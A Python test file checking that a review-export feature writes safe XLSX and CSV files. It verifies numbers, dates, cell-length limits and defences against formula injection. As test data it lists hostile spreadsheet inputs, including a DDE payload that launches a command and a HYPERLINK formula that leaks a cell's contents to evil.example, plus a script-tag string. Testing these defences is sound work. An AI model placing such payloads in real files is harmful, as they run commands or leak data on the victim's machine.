"""Spreadsheets of a frozen review, as openpyxl and the csv module read them again, and as they lie in the file."""

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from syncio.reports.cells import FORMULA, LONGEST, number, text, value
from syncio.reports.exports import exported
from syncio.reports.frozen import DiffData, encoded
from syncio.reports.tables import CHANGES, Table
from tests.unit.reports.fuller import everywhere, with_history
from tests.unit.reports.samples import HOSTILE, diff_data, field, raised, row, sha

MOST = 32_767  # characters a cell holds, counted as UTF-16
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    '=HYPERLINK("http://evil.example?"&A1,"Open")',
]


def workbook(data: DiffData) -> Any:
    return openpyxl.load_workbook(io.BytesIO(exported(encoded(data), "xlsx")))


def sheet(data: DiffData, name: str) -> list[dict[str, Any]]:
    head, *rows = workbook(data)[name].iter_rows(values_only=True)
    return [dict(zip(head, one, strict=True)) for one in rows]


def lines(data: DiffData) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported(encoded(data), "csv").decode("utf-8-sig"), newline="")))


def test_every_change_is_a_row_riskiest_first_with_amounts_as_numbers_and_their_currency_beside_them() -> None:
    rows = sheet(with_history(), "Changes")
    assert len(rows) == 31
    first, second = rows[:2]
    assert (first["Number"], second["Number"]) == ("INV-2302", "INV-2301")
    assert (second["Severity"], second["Change"], second["Approvals needed"]) == ("block", "changed", 2)
    money = [second[name] for name in ("Gross before", "Currency", "Gross after", "Gross change", "At stake")]
    assert money == [8000, "GBP", 10400, 2400, 1920]
    assert second["Flags"].startswith("upward edit (block): The total is 2,400.00 GBP higher")
    assert "line 2: (not there) → Skip hire: 310" in second["Fields"]
    assert second["SHA-256"] == sha("change 1")


def test_fields_flags_and_earlier_decisions_have_sheets_of_their_own() -> None:
    data = with_history()
    fields = [(one["Field"], one["Old"], one["New"]) for one in sheet(data, "Fields") if one["No"] == 1]
    assert fields[0] == ("total", 8000, 10400)
    assert fields[2] == ("line 1 quantity", 40, 52)
    assert fields[3] == ("line 2", None, "Skip hire: 310")
    assert sheet(data, "Flags")[1]["Evidence"].startswith("funded at 2026-11-18T10:00:00+00:00; rise 2500")
    [rejection, _] = sheet(data, "Decided before")
    assert (rejection["By"], rejection["Verdict"], rejection["Gross"]) == ("ann", "reject", 9600)
    assert rejection["At (UTC)"] == datetime(2026, 10, 30, 9, 12, 4)  # noqa: DTZ001  # cells know no zone


def test_dates_are_dates() -> None:
    [one] = sheet(diff_data([row(1, fields=(field("issue_date", None, "2026-11-17"),))]), "Changes")
    assert one["Issued"] == datetime(2026, 11, 17)  # noqa: DTZ001  # as openpyxl reads a date
    assert one["Due"] is None


def test_what_the_file_says_of_itself_can_be_checked_against_the_frozen_file() -> None:
    data = with_history()
    about = {one["What"]: one["Value"] for one in sheet(data, "About")}
    assert (about["Client"], about["Review"]) == (data.client, 12)
    assert about["SHA-256 of the review"] == data.hash
    assert about["SHA-256 of review.json"] == sha(encoded(data).decode())
    assert about["Not checked"] == "pdf mismatch: no document is read"


def test_a_csv_has_the_changes_with_plain_numbers_and_iso_dates() -> None:
    cut = raised(1, delta=Decimal("-2400.5"), amount_before=Decimal("1234567.89"))
    new = row(2, fields=(field("due_date", None, "2026-12-17"),))
    content = exported(encoded(diff_data([cut, new])), "csv")
    assert content.startswith(b"\xef\xbb\xbf")
    assert b",1234567.89," in content
    assert b",-2400.5," in content
    first, second = lines(diff_data([cut, new]))
    assert tuple(first) == CHANGES
    assert (second["Due"], second["Issued"], second["Gross before"]) == ("2026-12-17", "", "")


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_is_a_formula_wherever_it_stands(formula: str) -> None:
    data = everywhere(formula)
    cells = [cell for page in workbook(data) for line in page.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    texts = [str(cell.value) for cell in cells if cell.data_type == "s"]
    assert sum("1+1" in one or "cmd|" in one or "HYPERLINK" in one for one in texts) > 15
    texts += [one for line in csv_texts(data) for one in line]
    assert [one for one in texts if one.lstrip(" \t\r\n")[:1] in FORMULA] == []


def csv_texts(data: DiffData) -> list[list[str]]:
    """What stands in a CSV's fields, but for numbers."""
    found = csv.reader(io.StringIO(exported(encoded(data), "csv").decode("utf-8-sig"), newline=""))
    return [[one for one in line if not re.fullmatch(r"-?[0-9.]+", one)] for line in found]


def test_a_csv_field_cannot_begin_another_one() -> None:
    breaking = 'x",=1+1\r\n"=2+2;=3+3'
    [one] = lines(diff_data([row(1, number=breaking)]))
    assert one["Number"] == 'x",=1+1[U+000D]↵"=2+2;=3+3'
    assert one["SHA-256"] == sha("change 1")


def test_negative_numbers_stay_numbers_that_can_be_added_up() -> None:
    [one] = sheet(diff_data([raised(delta=Decimal("-12.5"))]), "Changes")
    assert one["Gross change"] == -12.5


def test_an_amount_that_a_spreadsheet_would_round_is_text() -> None:
    assert number(Decimal(123456789012345)) == Decimal(123456789012345)
    assert number(Decimal("999999999999999.9999")) == "999999999999999.9999"
    assert number(Decimal("-999999999999999.9999")) == "'-999999999999999.9999"
    [one] = sheet(diff_data([row(1, amount_after=Decimal("999999999999999.9999"))]), "Changes")
    assert one["Gross after"] == "999999999999999.9999"


def test_texts_that_look_like_errors_or_escapes_stay_texts() -> None:
    book = workbook(diff_data([row(1, number="#REF!", debtor_name="_x003D_1+1 _x0000_")]))
    [line] = list(book["Changes"].iter_rows(min_row=2))
    assert (line[4].value, line[4].data_type) == ("#REF!", "s")
    packed = zipfile.ZipFile(io.BytesIO(exported(encoded(diff_data([row(1, debtor_name="_x003D_1+1")])), "xlsx")))
    assert "_x005F_x003D_1+1" in packed.read("xl/worksheets/sheet1.xml").decode()


def test_hostile_text_is_told_in_signs_and_the_file_opens() -> None:
    told = {str(one["Number"]) for one in sheet(everywhere(HOSTILE), "Changes")}
    assert told == {line["Number"] for line in lines(everywhere(HOSTILE))}
    [number_] = told
    assert "<script>alert(1)</script>" in number_
    assert "[U+001B][31mred[U+202E]gnp[U+200B][U+0000]" in number_


@pytest.mark.parametrize("long", ["a" * MOST, "\x00" * MOST, "\U0010fffd" * MOST, "😀" * MOST, "=" * 1_000_000])
def test_no_cell_is_longer_than_a_cell_may_be(long: str) -> None:
    data = everywhere(long)
    cells = [str(cell) for page in workbook(data) for line in page.iter_rows(values_only=True) for cell in line if cell]
    assert max(len(one.encode("utf-16-le")) // 2 for one in cells) <= MOST
    assert sum("characters not shown, sha256" in one for one in cells) > 15
    assert max(len(one) for line in csv_texts(data) for one in line) <= MOST


def test_ten_megabytes_become_a_small_cell() -> None:
    assert len(text("=" * 10_000_000)) < LONGEST + 200


def test_a_text_of_thousands_of_characters_is_whole() -> None:
    assert text("a" * LONGEST) == "a" * LONGEST


def test_what_is_no_date_or_number_stays_text() -> None:
    assert value("due_date", "2026-12-17") == date(2026, 12, 17)
    assert value("due_date", "0001-01-01") == "0001-01-01"
    assert value("due_date", "=1+1") == "'=1+1"
    assert value("number", "00123") == "00123"
    assert value("total", "12,5") == "12,5"
    assert value("total", None) is None


def test_more_rows_than_a_sheet_holds_are_counted_in_its_last_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("syncio.reports.tables.MOST", 2)
    assert list(Table("T", ("A",), ((no,) for no in range(5)))) == [(0,), (1,), ("3 more rows are in review.json",)]


def test_a_review_frozen_by_an_earlier_version_is_exported_too() -> None:
    data = replace(diff_data(), checks=())
    assert len(sheet(data, "Changes")) == len(data.changes)


@given(st.text())
def test_no_text_begins_like_a_formula(given: str) -> None:
    assert text(given).lstrip(" ")[:1] not in FORMULA
